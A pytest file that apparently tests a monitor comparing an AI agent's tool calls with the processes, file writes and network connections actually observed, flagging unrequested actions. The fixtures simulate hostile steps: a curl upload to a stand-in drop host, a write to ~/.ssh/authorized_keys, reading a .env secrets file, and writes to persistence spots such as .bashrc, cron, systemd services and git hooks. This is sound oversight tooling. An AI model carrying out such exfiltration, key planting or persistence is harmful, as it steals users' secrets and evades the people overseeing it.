"""What no tool call asked for, tool calls without effect, and housekeeping, which is neither."""

from __future__ import annotations

import pytest

from analysis.actions import tool_actions
from analysis.own_places import OwnPlaces
from analysis.said_and_did import said_and_did
from analysis.steps import Finding
from tests.analysis.story import AGENT, WORK, Story


def findings(story: Story) -> list[Finding]:
    steps = story.steps
    return said_and_did(steps, tool_actions(steps))


def a_command(story: Story, at: float = 100) -> None:
    """A command that a process belongs to, with what it writes and reaches."""
    command = f"make all # at {at}"
    story.tool(at, at + 50, "Bash", command)
    pid = int(at) + 5000
    story.run(at + 5, pid, AGENT, "sh", "-c", command)
    story.file(at + 6, pid, f"{WORK}/out.o", "write")
    story.connect(at + 7, pid, "93.184.216.34", 443, "packages.example.org")


def test_what_a_tool_call_asked_for_is_no_finding() -> None:
    story = Story()
    a_command(story)
    assert findings(story) == []


def test_a_program_that_was_not_asked_for() -> None:
    story = Story()
    a_command(story)
    program = story.run(200, 300, AGENT, "/usr/bin/curl", "-T", "x", "https://drop.example.net")
    connection = story.connect(210, 300, "203.0.113.9", 443, "drop.example.net")
    programs, hosts = findings(story)
    assert (programs.kind, programs.severity, programs.count) == ("unasked_action", "warning", 1)
    assert [one.id for one in programs.evidence] == [program]
    assert programs.evidence[0].pid == 300
    assert "curl" in programs.title
    assert (hosts.kind, hosts.severity) == ("unasked_action", "warning")
    assert [one.id for one in hosts.evidence] == [connection]


def test_a_program_is_named_by_what_the_agent_started() -> None:
    story = Story()
    a_command(story)
    top = story.run(200, 300, AGENT, "sh", "-c", "./hook")
    story.run(201, 301, 300, "python3", "hook.py")
    story.file(202, 301, "/home/u/.ssh/authorized_keys", "write", sensitive="ssh_key")
    programs, files = findings(story)
    assert [one.id for one in programs.evidence] == [top]
    assert (programs.severity, files.severity) == ("warning", "warning")


def test_files_that_the_agent_writes_unasked() -> None:
    story = Story()
    a_command(story)
    for number in range(30):
        story.file(200 + number, AGENT, f"{WORK}/src/{number}.py", "write")
    (files,) = findings(story)
    assert (files.kind, files.severity, files.count) == ("unasked_action", "info", 30)
    assert len(files.evidence) == 20
    assert "27 more" in files.title


def test_a_program_that_reads_a_secret_matters() -> None:
    story = Story()
    a_command(story)
    story.run(200, 300, AGENT, "cat", "/home/u/.env")
    story.file(201, 300, "/home/u/.env", "read", sensitive="environment_file")
    (programs,) = findings(story)
    assert "opened to read /home/u/.env" in programs.evidence[0].note


def test_secrets_of_the_agent_s_own_are_housekeeping() -> None:
    story = Story()
    story.file(10, AGENT, "/home/u/.agent/settings.json", "write")
    a_command(story)
    story.file(200, AGENT, "/home/u/.agent/sessions/1.key", "write", sensitive="private_key")
    assert findings(story) == []


@pytest.mark.parametrize(
    "path",
    [
        "/home/u/.agent/sessions/1.jsonl",
        "/home/u/.agent.json",
        "/home/u/.agent.json.tmp.77",
        "/home/u/.cache/x/y",
        "/home/u/.config/agent/settings.json",
        "/home/u/.local/share/agent/log",
        f"{WORK}/.git/index.lock",
        "/tmp/agent-1/cwd",
        "/dev/null",
    ],
)
def test_state_of_the_agent_s_own_is_housekeeping(path: str) -> None:
    story = Story()
    story.file(10, AGENT, "/home/u/.agent/settings.json", "write")
    a_command(story)
    story.file(200, AGENT, path, "write")
    assert findings(story) == []


@pytest.mark.parametrize(
    "path",
    [
        f"{WORK}/a.py",
        f"{WORK}/.git/hooks/post-commit",
        "/home/u/.bashrc",
        "/home/u/.ssh/config",
        "/home/u/.config/autostart/x.desktop",
        "/home/u/.config/systemd/user/x.service",
        "/etc/cron.d/x",
        "/home/u/other/a.py",
    ],
)
def test_other_places_are_not(path: str) -> None:
    story = Story()
    story.file(10, AGENT, "/home/u/.agent/settings.json", "write")
    a_command(story)
    story.file(200, AGENT, path, "write")
    assert [one.kind for one in findings(story)] == ["unasked_action"]


def test_work_below_tmp_is_work() -> None:
    places = OwnPlaces(["/tmp/task"])
    assert not places.hold("/tmp/task/a.py")
    assert places.hold("/tmp/other/a.py")


def test_what_the_agent_does_anyway_is_housekeeping() -> None:
    """Started or reached before a model asked for anything: again later, it is no news."""
    story = Story()
    story.run(10, 200, AGENT, "git", "fetch", "--quiet")
    story.connect(11, 200, "140.82.121.3", 443, "github.com")
    story.connect(12, AGENT, "198.51.100.1", 443, "telemetry.agent.example")
    a_command(story)
    story.run(200, 201, AGENT, "git", "fetch", "--quiet")
    story.connect(201, 201, "140.82.121.4", 443, "github.com")
    story.file(202, 201, f"{WORK}/out", "write")
    story.connect(203, AGENT, "198.51.100.2", 443, "telemetry.agent.example")
    assert [one.title for one in findings(story)] == [
        f"A file was changed though no tool call asked for it: {WORK}/out"
    ]


def test_a_quick_look_around_is_housekeeping() -> None:
    story = Story()
    a_command(story)
    story.run(200, 300, AGENT, "git", "status")
    story.file(201, 300, f"{WORK}/a.py")
    story.file(202, 300, f"{WORK}/.git/index.lock", "write")
    assert findings(story) == []


def test_looking_a_user_up_is_housekeeping() -> None:
    story = Story()
    a_command(story)
    story.run(200, 300, AGENT, "git", "status")
    story.file(201, 300, "/etc/passwd", "read", sensitive="system_accounts")
    assert findings(story) == []
    story.file(202, 300, "/etc/passwd", "write", sensitive="system_accounts")
    assert [one.severity for one in findings(story)] == ["warning", "warning"]


def test_models_the_machine_itself_and_hosts_that_the_user_named_are_no_news() -> None:
    story = Story("Send it to https://hooks.example.com/build when you are done.")
    a_command(story)
    story.connect(200, AGENT, "160.79.104.10", 443, "api.anthropic.com")
    story.connect(201, AGENT, "127.0.0.1", 9000)
    story.connect(202, AGENT, "198.51.100.3", 443, "hooks.example.com")
    story.connect(203, AGENT, "198.51.100.4", 53, transport="udp")
    assert findings(story) == []


def test_the_agent_s_own_telemetry_is_information() -> None:
    story = Story()
    a_command(story)
    story.connect(200, AGENT, "198.51.100.2", 443, "telemetry.example")
    (hosts,) = findings(story)
    assert (hosts.severity, hosts.count) == ("info", 1)


def test_without_tool_calls_nothing_is_said() -> None:
    story = Story()
    story.file(200, AGENT, f"{WORK}/a.py", "write")
    assert findings(story) == []


def test_a_command_without_a_process() -> None:
    story = Story()
    a_command(story)
    tool = story.tool(300, 390, "Bash", "pytest -q", "12 passed")
    (finding,) = findings(story)
    assert (finding.kind, finding.severity, finding.count) == ("no_effect", "warning", 1)
    assert [one.id for one in finding.evidence] == [tool]


def test_commands_that_run_where_nobody_watches_are_said_once() -> None:
    story = Story()
    for number in range(5):
        story.tool(100 + number * 100, 150 + number * 100, "Bash", f"pytest -k {number}")
    (finding,) = findings(story)
    assert (finding.kind, finding.severity, finding.count) == ("no_effect", "info", 5)


@pytest.mark.parametrize(
    ("command", "result", "more"),
    [
        ("pytest -q", "Permission to use Bash has been denied.", {}),
        ("pytest -q", "no such command", {"is_error": True}),
        ("pytest -q", "Error: command failed", {}),
        ("cd src && export A=1; pwd", "/src", {}),
        ("", "", {}),
    ],
)
def test_commands_that_failed_or_start_nothing(
    command: str, result: str, more: dict[str, bool]
) -> None:
    story = Story()
    a_command(story)
    story.tool(300, 390, "Bash", command, result, **more)
    assert findings(story) == []


def test_a_file_that_nobody_wrote() -> None:
    story = Story()
    story.tool(100, 190, "Write", {"file_path": f"{WORK}/a.py", "content": "x"})
    story.file(110, AGENT, f"{WORK}/a.py", "write", creates=True)
    tool = story.tool(200, 290, "Write", {"file_path": f"{WORK}/b.py", "content": "x"})
    story.file(210, AGENT, f"{WORK}/b.py", "read")
    (finding,) = findings(story)
    assert (finding.kind, finding.severity) == ("no_effect", "warning")
    assert [one.id for one in finding.evidence] == [tool]


def test_files_are_not_judged_where_no_file_was_seen() -> None:
    story = Story()
    story.tool(200, 290, "Write", {"file_path": f"{WORK}/b.py", "content": "x"})
    assert findings(story) == []
